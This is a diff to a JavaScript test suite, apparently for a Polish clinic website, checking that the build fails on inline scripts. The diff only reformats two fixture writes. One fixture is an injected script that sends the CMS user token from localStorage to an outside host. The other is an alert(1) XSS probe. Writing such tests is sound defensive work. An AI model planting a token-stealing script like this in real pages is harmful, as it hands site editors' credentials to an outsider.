@@ -37,7 +37,10 @@ test('a good build: no inline script on any page, and a policy that allows none'
 
 test('a file of public/ with an inline script stops the build at the script, and nothing is allowed', async () => {
   const file = join(root, 'public/ogloszenie.html')
-  writeFileSync(file, '<!doctype html>\n<html lang="pl">\n<head><title>Ogłoszenie</title></head>\n<body>\n<script>fetch("https://example.org/?t=" + localStorage.getItem("sveltia-cms.user"))</script>\n</body>\n</html>\n')
+  writeFileSync(
+    file,
+    '<!doctype html>\n<html lang="pl">\n<head><title>Ogłoszenie</title></head>\n<body>\n<script>fetch("https://example.org/?t=" + localStorage.getItem("sveltia-cms.user"))</script>\n</body>\n</html>\n',
+  )
   try {
     const { status, output } = await build()
     expect(status, output).toBe(1)
@@ -50,7 +53,19 @@ test('a file of public/ with an inline script stops the build at the script, and
 
 test('a <script> in a page that got past the check stops the build too', async () => {
   const page = join(root, 'content/proba.mdx')
-  writeFileSync(page, ['---', 'title: Strona próbna', 'description: "Strona próbna do testów budowania: ma poprawne pola i skrypt, którego sprawdzenie nie widziało."', 'group: uslugi', '---', '', '<script>{"alert(1)"}</script>', ''].join('\n'))
+  writeFileSync(
+    page,
+    [
+      '---',
+      'title: Strona próbna',
+      'description: "Strona próbna do testów budowania: ma poprawne pola i skrypt, którego sprawdzenie nie widziało."',
+      'group: uslugi',
+      '---',
+      '',
+      '<script>{"alert(1)"}</script>',
+      '',
+    ].join('\n'),
+  )
   try {
     // As if the content check had missed it.
     const { status, output } = await build({ CLINIC_BUILD_WITHOUT_CHECK: '1' })
